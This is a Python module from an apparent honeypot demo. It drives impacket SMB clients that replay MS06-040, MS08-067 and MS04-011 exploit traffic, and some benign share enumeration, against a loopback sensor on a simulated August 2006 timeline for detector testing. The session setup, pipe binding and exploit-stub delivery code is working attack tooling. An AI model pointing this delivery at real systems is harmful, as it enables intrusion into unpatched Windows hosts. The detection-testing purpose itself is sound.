"""The demo's bots: impacket clients that attack the honeypot over loopback, day by day.

Each *visit* is one client from an address of its own in 127.0.0.0/8 (never 127.0.0.1, which is
the sensor's): an MS06-040 bot, an MS08-067 or MS04-011 attacker, or a benign client listing
shares. Its *profile* is what a family of clients looks like on the wire: NativeOS and
NativeLanMan strings, port 139 (NetBIOS session service) or 445 (direct TCP), the pipe it opens
and the exploit target it sends (:mod:`stormwatch.demo.shapes`). The bots of August 2006 (Symantec's
W32.Wargbot among them) carried the Windows 2000 form of MS06-040; the others follow
Metasploit's targets. MS08-067 is from 2008: its bots are in the demo to show the detector tells
the two attacks on NetprPathCanonicalize apart.

Binding a source address, the clean way: the bot connects a socket of its own (``bind`` to its
127.x address, then ``connect``), hands it to ``nmb.NetBIOSTCPSession(..., sock=sock)`` — with an
existing socket impacket opens nothing itself, and ``sess_port`` then only chooses the framing
(139: it sends the NBSS session request first) — then ``smb.SMB(..., session=...)`` negotiates NT
LM 0.12 and ``SMBConnection(existingConnection=...)`` gives the usual API. No module constant is
patched (the tests point ``nmb.NETBIOS_SESSION_PORT`` at an ephemeral port instead), so bots run
concurrently in threads.

The attackers belong to bot families (:mod:`stormwatch.demo.families`, mimics of the 2006
families): each family's bots share its exploit framing (target layout, service, pipe, calls,
fragment size), client stack (dialects offered, NULL session or NTLMSSP anonymous logon with a
patterned workstation name, NativeOS) and shellcode (decoder, key, what it does), so the campaigns
analytics (:mod:`stormwatch.analytics.campaigns`) has something real to find. A family's client
sends its own SMB NEGOTIATE (impacket's always offers ``NT LM 0.12`` alone) and hands the answer
to ``smb.SMB(..., negPacket=...)``, which then only parses it.

The NULL-session bots log on the way the 2006 bots and Metasploit's RubySMB do: a legacy NULL session
(SESSION_SETUP_ANDX, WordCount 13, an empty OEM password) carrying the profile's NativeOS, built
from impacket's structures; impacket's own ``login`` would always say ``Unix``/``Samba``, which is
what the Samba-like benign client keeps.

Visits run in *waves* of ``concurrency`` at once. Before a wave the driver moves the sensor's story
clock to the wave's time (:class:`Range.jump`) and after it waits until every session of the wave
has been closed (:class:`Range.settle`), so each event carries the time of its wave in August 2006.
"""

from __future__ import annotations

import ipaddress
import random
import socket
from collections.abc import Callable, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import UTC
from typing import Any, Protocol

from impacket import nmb, ntlm, smb  # type: ignore[import-untyped]
from impacket.dcerpc.v5 import dssp, srvs, transport  # type: ignore[import-untyped]
from impacket.smbconnection import SMBConnection  # type: ignore[import-untyped]
from impacket.spnego import SPNEGO_NegTokenInit, SPNEGO_NegTokenResp, TypesMech  # type: ignore[import-untyped]

from stormwatch.demo import families, shapes
from stormwatch.demo.families import FAMILIES, Family, Stack
from stormwatch.demo.generate import DemoPlan

TIMEOUT = 10.0  # seconds a bot waits for the sensor before giving up
WAVE_SPAN = 3600.0  # story seconds the visits of one wave may lie apart


@dataclass(frozen=True)
class Profile:
    """A family of clients as the sensor sees it."""

    name: str
    attack: str  # "MS06-040", "MS08-067", "MS04-011" or "benign"
    native_os: str
    native_lanman: str
    service: str  # "netbios-ssn" (139) or "smb" (445)
    pipe: str  # as the client writes it
    target: str = ""  # MS06-040 target (shapes.MS06_040_UNITS); for benign clients what they do
    weight: float = 1.0
    family: Family | None = None  # the bot family of an attacker (benign clients have none)


W2K = ("Windows 2000 2195", "Windows 2000 5.0")  # also Metasploit's SMB::Native_OS/Native_LM defaults


def family_profile(f: Family) -> Profile:
    """The profile of a bot family's visits."""
    return Profile(f.name, f.framing.vuln, f.stack.native_os, f.stack.native_lanman, f.framing.service,
                   f.framing.pipe, f.framing.target, f.weight, family=f)


PROFILES: tuple[Profile, ...] = (
    *(family_profile(f) for f in FAMILIES),
    Profile("samba-list", "benign", "Unix", "Samba", "smb", "\\srvsvc", "shares"),
    Profile("w2k-netview", "benign", *W2K, "netbios-ssn", "\\srvsvc", "share-enum"),
    Profile("xp-explorer", "benign", "Windows 2002 Service Pack 2 2600", "Windows 2002 5.1", "smb", "\\srvsvc",
            "server-info"),
)


@dataclass(frozen=True)
class Visit:
    """One client's visit: when (epoch seconds on the story timeline), from where, as whom."""

    at: float
    src_ip: str
    profile: Profile
    seed: int
    retry: bool = False  # an MS06-040 bot that also tries the other port, as scanning bots did


class Range(Protocol):
    """The target range the driver attacks (the demo's in-process honeypot)."""

    @property
    def host(self) -> str:
        """The sensor's address (127.0.0.1)."""

    @property
    def ports(self) -> Mapping[str, int]:
        """Service (``smb``, ``netbios-ssn``) -> port."""

    @property
    def name(self) -> str:
        """The sensor's NetBIOS name, for the clients that know it."""

    def jump(self, at: float) -> None:
        """Move the sensor's clock to ``at`` (epoch seconds on the story timeline)."""

    def settle(self, sessions: int) -> None:
        """Wait until the sensor has closed ``sessions`` sessions in all."""


@dataclass
class AttackReport:
    """What :func:`drive` did: visits made, TCP sessions opened, visits that failed."""

    visits: int = 0
    sessions: int = 0
    failed: int = 0
    errors: list[str] = field(default_factory=list)  # the first few, for the operator


# -- the clients ------------------------------------------------------------------------------------

def _loopback(addr: str) -> str:
    if not ipaddress.ip_address(addr).is_loopback:
        raise ValueError(f"the demo's bots stay on loopback; {addr} is not in 127.0.0.0/8")
    return addr


class Client:
    """One TCP connection from ``src_ip`` to the sensor, SMB1 (NT LM 0.12) negotiated; a context
    manager that always closes the socket (a bot hangs up without LOGOFF, as the 2006 bots did)."""

    def __init__(self, src_ip: str, target: Range, service: str, called: str, stack: Stack | None = None) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            self.sock.settimeout(TIMEOUT)
            self.sock.bind((_loopback(src_ip), 0))
            self.sock.connect((_loopback(target.host), target.ports[service]))
            # with a socket given, sess_port only picks the framing: 139 sends the NBSS request first
            framing = nmb.NETBIOS_SESSION_PORT if service == "netbios-ssn" else nmb.SMB_SESSION_PORT
            nbss = nmb.NetBIOSTCPSession("BOT", called, target.host, sess_port=framing, timeout=TIMEOUT,
                                         sock=self.sock)
            answer = None if stack is None else _negotiate(nbss, stack.dialects, extended=stack.ntlmssp)
            self.smb = smb.SMB(called, target.host, "BOT", sess_port=framing, timeout=TIMEOUT, session=nbss,
                               negPacket=answer)
            self.conn = SMBConnection(existingConnection=self.smb)
        except BaseException:
            self.sock.close()
            raise

    def __enter__(self) -> Client:
        return self

    def __exit__(self, *exc: object) -> None:
        self.sock.close()

    def logon(self, stack: Stack, rng: random.Random) -> None:
        """The family's logon: NTLMSSP anonymous with a workstation name from its pattern, or a NULL session."""
        if stack.ntlmssp:
            self.ntlmssp_anonymous(stack, families.workstation(stack.workstation, rng))
        else:
            self.null_session(stack.native_os, stack.native_lanman)

    def null_session(self, native_os: str, native_lanman: str) -> None:
        """[MS-CIFS] 2.2.4.53.1 SESSION_SETUP_ANDX request, NT LM 0.12 form (WordCount 13): no
        account, a one-byte empty OEM password, the profile's NativeOS and NativeLanMan."""
        unicode = self.smb.get_flags()[1] & smb.SMB.FLAGS2_UNICODE
        cmd = smb.SMBCommand(smb.SMB.SMB_COM_SESSION_SETUP_ANDX)
        p = cmd["Parameters"] = smb.SMBSessionSetupAndX_Parameters()
        p["MaxBuffer"], p["MaxMpxCount"], p["VCNumber"], p["SessionKey"] = 4356, 10, 0, 0
        p["AnsiPwdLength"], p["UnicodePwdLength"] = 1, 0
        p["Capabilities"] = smb.SMB.CAP_UNICODE | smb.SMB.CAP_NT_SMBS | smb.SMB.CAP_USE_NT_ERRORS
        d = cmd["Data"] = smb.SMBSessionSetupAndX_Data(flags=unicode)
        # one OEM byte keeps the Unicode strings that follow at an even offset: no pad needed
        d["AnsiPwd"], d["UnicodePwd"], d["Account"], d["PrimaryDomain"] = b"\0", b"", "", ""
        d["NativeOS"], d["NativeLanMan"] = native_os, native_lanman
        packet = smb.NewSMBPacket()
        packet.addCommand(cmd)
        self.smb.sendSMB(packet)
        answer = self.smb.recvSMB()
        if not answer.isValidAnswer(smb.SMB.SMB_COM_SESSION_SETUP_ANDX):  # an error status raises
            raise ConnectionError("no SESSION_SETUP_ANDX answer")
        self.smb.set_uid(answer["Uid"])

    def ntlmssp_anonymous(self, stack: Stack, workstation: str) -> None:
        """[MS-NLMP] 3.1.5 anonymous logon in two SESSION_SETUP_ANDX legs ([MS-SMB] 2.2.4.6.1,
        extended security, SPNEGO-wrapped): NEGOTIATE with the family's flags, then an
        AUTHENTICATE with no user, an empty LM response, and the bot's workstation name."""
        negotiate = ntlm.NTLMAuthNegotiate()
        negotiate["flags"] = stack.ntlm_flags
        init = SPNEGO_NegTokenInit()
        init["MechTypes"] = [TypesMech["NTLMSSP - Microsoft NTLM Security Support Provider"]]
        init["MechToken"] = negotiate.getData()
        challenge = ntlm.NTLMAuthChallenge(SPNEGO_NegTokenResp(self._setup_leg(init.getData(), stack))["ResponseToken"])
        auth = ntlm.NTLMAuthChallengeResponse("", "", challenge["challenge"])
        auth["flags"] = stack.ntlm_flags
        auth["domain_name"] = stack.domain.encode("utf-16-le")
        auth["host_name"] = workstation.encode("utf-16-le")
        auth["lanman"], auth["ntlm"] = b"\0", b""
        resp = SPNEGO_NegTokenResp()
        resp["ResponseToken"] = auth.getData()
        self._setup_leg(resp.getData(), stack)

    def _setup_leg(self, blob: bytes, stack: Stack) -> bytes:
        """One extended-security SESSION_SETUP_ANDX leg; returns the server's security blob. The
        strings go as OEM text (the Unicode form would need a pad after an even-length blob)."""
        flags2 = self.smb.get_flags()[1]
        self.smb.set_flags(flags2=flags2 & ~smb.SMB.FLAGS2_UNICODE)
        try:
            cmd = smb.SMBCommand(smb.SMB.SMB_COM_SESSION_SETUP_ANDX)
            p = cmd["Parameters"] = smb.SMBSessionSetupAndX_Extended_Parameters()
            p["MaxBufferSize"], p["MaxMpxCount"], p["VcNumber"], p["SessionKey"] = 4356, 10, 0, 0
            p["Capabilities"] = (smb.SMB.CAP_EXTENDED_SECURITY | smb.SMB.CAP_NT_SMBS | smb.SMB.CAP_USE_NT_ERRORS
                                 | smb.SMB.CAP_UNICODE)
            p["SecurityBlobLength"] = len(blob)
            d = cmd["Data"] = smb.SMBSessionSetupAndX_Extended_Data()
            d["SecurityBlob"], d["NativeOS"], d["NativeLanMan"] = blob, stack.native_os, stack.native_lanman
            packet = smb.NewSMBPacket()
            packet.addCommand(cmd)
            self.smb.sendSMB(packet)
            answer = self.smb.recvSMB()
        finally:
            self.smb.set_flags(flags2=flags2)
        if not answer.isValidAnswer(smb.SMB.SMB_COM_SESSION_SETUP_ANDX):
            raise ConnectionError("no SESSION_SETUP_ANDX answer")
        self.smb.set_uid(answer["Uid"])
        part = smb.SMBCommand(answer["Data"][0])
        params = smb.SMBSessionSetupAndX_Extended_Response_Parameters(part["Parameters"])
        data = smb.SMBSessionSetupAndX_Extended_Response_Data(flags=answer["Flags2"])
        data["SecurityBlobLength"] = params["SecurityBlobLength"]
        data.fromString(part["Data"])
        return bytes(data["SecurityBlob"])

    def rpc(self, pipe: str, interface: bytes, max_frag: int = 0) -> Any:
        """IPC$, the pipe opened, the interface bound: an impacket DCERPC_v5 (requests cut into
        fragments of ``max_frag`` bytes when given)."""
        dce = transport.SMBTransport(self.smb.get_remote_host(), filename=pipe, smb_connection=self.conn).get_dce_rpc()
        dce.connect()
        dce.bind(interface)
        if max_frag:
            dce.set_max_fragment_size(max_frag)
        return dce


def _negotiate(nbss: Any, dialects: Sequence[str], *, extended: bool) -> bytes:
    """Send [MS-CIFS] 2.2.4.52.1 SMB_COM_NEGOTIATE with ``dialects`` (in order); the answer's SMB bytes."""
    packet = smb.NewSMBPacket()
    packet["Flags1"] = smb.SMB.FLAGS1_PATHCASELESS | smb.SMB.FLAGS1_CANONICALIZED_PATHS
    packet["Flags2"] = (smb.SMB.FLAGS2_NT_STATUS | smb.SMB.FLAGS2_LONG_NAMES
                        | (smb.SMB.FLAGS2_EXTENDED_SECURITY if extended else 0))
    cmd = smb.SMBCommand(smb.SMB.SMB_COM_NEGOTIATE)
    cmd["Data"] = b"".join(b"\x02" + d.encode("ascii") + b"\0" for d in dialects)
    packet.addCommand(cmd)
    nbss.send_packet(packet.getData())
    return bytes(nbss.recv_packet(TIMEOUT).get_trailer())


# -- what each kind of client does ------------------------------------------------------------------

def _other(service: str) -> str:
    return "smb" if service == "netbios-ssn" else "netbios-ssn"


def run_visit(visit: Visit, target: Range) -> tuple[int, str | None]:
    """Carry out one visit; returns (TCP sessions opened, error or None). Never raises."""
    rng = random.Random(visit.seed)
    p = visit.profile
    opened = 0

    def session(service: str, called: str, stack: Stack | None = None) -> Client:
        nonlocal opened
        client = Client(visit.src_ip, target, service, called, stack)
        opened += 1
        return client

    try:
        fam = p.family
        if fam is None:
            _benign(p, session(p.service, target.name))
        else:
            _attack(visit, fam, rng, lambda service: session(service, target.host, fam.stack))
    except Exception as exc:  # noqa: BLE001 - one failed bot is reported, the others go on
        return opened, f"{p.name} from {visit.src_ip}: {type(exc).__name__}: {exc}"
    return opened, None


def _attack(visit: Visit, fam: Family, rng: random.Random, session: Callable[[str], Client]) -> None:
    """One bot of ``fam``: its shellcode in its exploit framing, from its client stack."""
    fr = fam.framing
    code = families.shellcode(fam, rng, visit.src_ip)
    # the padding around the shellcode comes from the family's generator: one binary, one layout
    layout = random.Random(fam.name)
    if fr.vuln == "MS06-040":
        path = shapes.ms06_040_path(fr.target, code, layout)
        for service in (fr.service, _other(fr.service)) if visit.retry else (fr.service,):
            stub = shapes.ms06_040_stub(path, fr.target, rng, outbuf_len=fr.outbuf_len, path_type=fr.path_type)
            with session(service) as c:
                c.logon(fam.stack, rng)
                dce = c.rpc(fr.pipe, srvs.MSRPC_UUID_SRVS, fr.max_frag)
                for _ in range(fr.calls):  # unanswered: the server thread has crashed (or not)
                    dce.call(31, stub)
    elif fr.vuln == "MS08-067":
        stubs = [shapes.ms08_067_stub(code + shapes.shellcode(rng, max(0, 408 - len(code))), rng)]
        if rng.random() < fam.check_first:  # the module's check first, in a session of its own
            stubs.insert(0, shapes.ms08_067_check_stub(rng))
        for stub in stubs:
            with session(fr.service) as c:
                c.logon(fam.stack, rng)
                c.rpc(fr.pipe, srvs.MSRPC_UUID_SRVS, fr.max_frag).call(31, stub)
    elif fr.vuln == "MS04-011":
        with session(fr.service) as c:
            c.logon(fam.stack, rng)
            c.rpc(fr.pipe, dssp.MSRPC_UUID_DSSP, fr.max_frag).call(9, shapes.ms04_011_stub(code, rng))
    else:
        raise ValueError(f"{fam.name}: no exploit for {fr.vuln}")


def _benign(p: Profile, client: Client) -> None:
    with client as c:
        if p.target == "shares":  # smbclient -L: NTLMSSP anonymous logon, NetShareEnum level 1
            c.conn.login("", "")
            c.conn.listShares()
        else:
            c.null_session(p.native_os, p.native_lanman)
            dce = c.rpc(p.pipe, srvs.MSRPC_UUID_SRVS)
            if p.target == "server-info":
                srvs.hNetrServerGetInfo(dce, 101)
            srvs.hNetrShareEnum(dce, 1)
            dce.disconnect()
        c.conn.logoff()


# -- the story: who comes when ----------------------------------------------------------------------

@dataclass(frozen=True)
class LivePlan:
    """How many clients of each kind visit per day of the story (see :func:`schedule`)."""

    quiet_days: int = 4  # honeypot days before the surge, from 8 August 2006 (MS06-040's bulletin)
    ms06_040_day1: int = 16  # MS06-040 bots on the first surge day, then x DemoPlan.surge_growth a day
    retry_share: float = 0.3  # MS06-040 bots that also try the other port
    ms08_067_per_day: int = 2  # on surge days
    ms04_011_per_day: int = 3  # every day
    benign_per_day: int = 4  # every day
    concurrency: int = 6  # visits at once


def schedule(plan: DemoPlan, live: LivePlan | None = None) -> list[Visit]:
    """Every visit of the live phase, in story order. Days follow :mod:`stormwatch.demo.generate`:
    ``quiet_days`` days of background visitors before ``plan.surge_start``, then one window per
    surge day up to ``plan.end``, the number of MS06-040 bots growing by ``plan.surge_growth``."""
    live = live or LivePlan()
    rng = random.Random(plan.seed)
    t0 = plan.surge_start.replace(tzinfo=UTC).timestamp()
    end = plan.end.replace(tzinfo=UTC).timestamp()
    windows = [(t0 - (live.quiet_days - i) * 86400.0, t0 - (live.quiet_days - i - 1) * 86400.0, -1)
               for i in range(live.quiet_days)]
    day = 0
    while t0 + day * 86400 < end:
        windows.append((t0 + day * 86400.0, min(t0 + (day + 1) * 86400.0, end), day))
        day += 1
    used: set[str] = set()
    visits = []
    for lo, hi, surge_day in windows:
        counts = {"benign": live.benign_per_day, "MS04-011": live.ms04_011_per_day}
        if surge_day >= 0:
            counts["MS06-040"] = round(live.ms06_040_day1 * plan.surge_growth ** surge_day)
            counts["MS08-067"] = live.ms08_067_per_day
        for attack, n in counts.items():
            kinds = [p for p in PROFILES if p.attack == attack]
            for p in rng.choices(kinds, [k.weight for k in kinds], k=n):
                visits.append(Visit(rng.uniform(lo, hi), _address(rng, used), p, rng.getrandbits(64),
                                    retry=attack == "MS06-040" and rng.random() < live.retry_share))
    visits.sort(key=lambda v: v.at)
    return visits


def _address(rng: random.Random, used: set[str]) -> str:
    """A fresh 127.a.b.c with a >= 1 (127.0.0.0/16 stays the sensor's)."""
    while True:
        addr = f"127.{rng.randint(1, 254)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        if addr not in used:
            used.add(addr)
            return addr


def waves(visits: Sequence[Visit], concurrency: int, span: float = WAVE_SPAN) -> list[list[Visit]]:
    """``visits`` (in story order) cut into waves of at most ``concurrency`` visits that lie
    within ``span`` seconds of each other."""
    out: list[list[Visit]] = []
    for v in visits:
        if out and len(out[-1]) < concurrency and v.at - out[-1][0].at <= span:
            out[-1].append(v)
        else:
            out.append([v])
    return out


def drive(visits: Sequence[Visit], target: Range, *, concurrency: int = 6,
          on_wave: Callable[[int, int], None] | None = None) -> AttackReport:
    """Run ``visits`` in waves (threads), each at the story time of its last visit: no visit is
    seen before its time (no MS06-040 bot before the surge begins), at most ``WAVE_SPAN`` after."""
    report = AttackReport()
    with ThreadPoolExecutor(max(1, concurrency), thread_name_prefix="stormwatch-bot") as pool:
        for wave in waves(visits, max(1, concurrency)):
            target.jump(wave[-1].at)
            for opened, error in pool.map(lambda v: run_visit(v, target), wave):
                report.visits += 1
                report.sessions += opened
                if error is not None:
                    report.failed += 1
                    if len(report.errors) < 5:
                        report.errors.append(error)
            target.settle(report.sessions)
            if on_wave is not None:
                on_wave(report.visits, len(visits))
    return report
